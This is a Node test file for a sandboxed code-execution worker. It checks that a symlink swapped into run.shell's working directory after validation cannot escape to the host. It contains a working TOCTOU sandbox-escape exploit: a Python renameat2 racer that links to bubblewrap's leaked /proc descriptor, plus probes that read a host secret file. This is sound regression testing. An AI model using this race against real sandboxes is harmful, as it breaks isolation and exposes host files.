import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { Status } from 'nice-grpc';
import { callTool, describeCall, runTaskWithin, waitFor, type TaskRun } from '../helpers/tasks.js';
import { startWorker, stopHard, type RunningWorker } from '../helpers/worker.js';

// "run.shell's cwd is checked, then entered by root": the worker checks `cwd` in the workspace
// without following links out, and then (cold path) bubblewrap, still root, enters
// /workspace/<cwd> with --chdir, following whatever links are there by then. Session code
// swapping the directory for a link between the two makes root resolve a session-made link.
// Inside the sandbox that looks harmless, except that bubblewrap at that point still holds a
// descriptor of the host's /proc (fd 4, after the seccomp filter's 3): a link to /proc/self/fd/4/.. puts the command's
// working directory at the host's root, outside every mount of the sandbox, and it reads
// (and writes, where the world may) the host's files with relative paths.
//
// The cold path is the attacker's to choose: WORKER_WARM_INTERPRETER=false, no memory or pids
// cgroup, or (with the default config) a /workspace/json.py that stops the warm interpreter
// from starting, after which every call runs cold for a minute.

const MARK = `cwd-race-${randomBytes(6).toString('hex')}`;
const SECRET = `host secret ${randomBytes(12).toString('hex')}`;
const hostDir = mkdtempSync('/tmp/codegen-host-secret-');
chmodSync(hostDir, 0o755);
const secretFile = join(hostDir, 'secret.txt');
writeFileSync(secretFile, `${SECRET}\n`, { mode: 0o644 });
const workers: RunningWorker[] = [];

after(async () => {
  for (const w of workers) await stopHard(w, 5_000, ['CODEGEN_TEST_MARK', MARK]);
  rmSync(hostDir, { recursive: true, force: true });
});

/**
 * Swaps /workspace/d between a directory and a link to the host's root (through bubblewrap's
 * fd 4), atomically (renameat2 RENAME_EXCHANGE), for `seconds`: mostly a link, briefly a directory.
 */
const RACER = `
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
os.chdir('/workspace')
for name in ('d', 'L'):
    if os.path.islink(name) or os.path.isfile(name):
        os.unlink(name)
    elif os.path.isdir(name):
        os.rmdir(name)
os.mkdir('d')
os.symlink('/proc/self/fd/4/..', 'L')
def exchange():
    if libc.renameat2(-100, b'd', -100, b'L', 2) != 0:
        raise OSError(ctypes.get_errno(), 'renameat2')
print('racing', flush=True)
end = time.time() + float(sys.argv[1])
while time.time() < end:
    time.sleep(0.002)   # d is the directory
    exchange()
    time.sleep(0.008)   # d is the link
    exchange()
`;

async function attack(t: import('node:test').TestContext, env: Record<string, string>, breakWarm: boolean): Promise<void> {
  const worker = await startWorker({ env: { WORKER_SPARE_SESSIONS: '1', ...env } });
  workers.push(worker);
  const { sessionId } = await worker.sessions.createSession({ workspaceId: 'attacker', config: { env: { CODEGEN_TEST_MARK: MARK } } }, { deadline: 20_000 });
  const write = async (path: string, contents: string) => {
    const wrote = await callTool(worker.tasks, sessionId, 'fs.write', { path, contents });
    assert.equal(wrote.code, Status.OK, describeCall(wrote));
  };
  await write('racer.py', RACER);
  // The warm interpreter imports json with /workspace first on its path: this one stops it.
  if (breakWarm) await write('json.py', 'raise SystemExit("no warm interpreter today")\n');

  const racing: Promise<TaskRun> = runTaskWithin(
    worker.tasks,
    { sessionId, taskId: 'racer', toolName: 'run.shell', arguments: { command: 'exec python racer.py 40' }, constraints: { timeoutSeconds: 60 } },
    70_000,
  );
  // The racer has begun once its link is there (it makes it just before it starts swapping).
  await waitFor(
    async () => ((await callTool(worker.tasks, sessionId, 'fs.list', { path: '.' })).result?.outputs.entries ?? '').split(',').includes('L'),
    30_000,
  );
  const relative = secretFile.slice(1); // from the host's root
  const leaks: string[] = [];
  // Calls that passed the check and then met the link where the directory had been: before the
  // fix, each one of them read the host's file.
  let won = 0;
  let tries = 0;
  for (; tries < 150 && leaks.length === 0 && won < 5; tries++) {
    const probe = await callTool(worker.tasks, sessionId, 'run.shell', { command: `cat -- '${relative}' 2>/dev/null; pwd`, cwd: 'd' }, 20_000);
    const text = probe.result?.outputs.stdout ?? '';
    if (probe.result && !text.includes('/workspace/d\n')) won++;
    if (text.includes(SECRET)) leaks.push(`try ${tries + 1}: ${describeCall(probe, 400)}`);
  }
  t.diagnostic(`${tries} run.shell calls with cwd d, ${won} of them entered it after the swap`);
  await worker.tasks.cancelTask({ sessionId, taskId: 'racer' }).catch(() => undefined);
  const raced = await racing;
  t.diagnostic(`racer: ${raced.result?.outputs.stdout?.slice(0, 200)} ${raced.result?.outputs.stderr?.slice(-300)}`);
  assert.deepEqual(leaks, [], 'run.shell read a host file: its cwd was a link to the host root that root followed');
  assert.ok(won > 0, 'the race was never won: the test proved nothing');
}

test('run.shell cwd swapped for a link after the check does not reach the host (warm interpreter off)', async (t) => {
  await attack(t, { WORKER_WARM_INTERPRETER: 'false' }, false);
});

test('run.shell cwd swapped for a link after the check does not reach the host (default config, warm interpreter broken by the session)', async (t) => {
  await attack(t, {}, true);
});
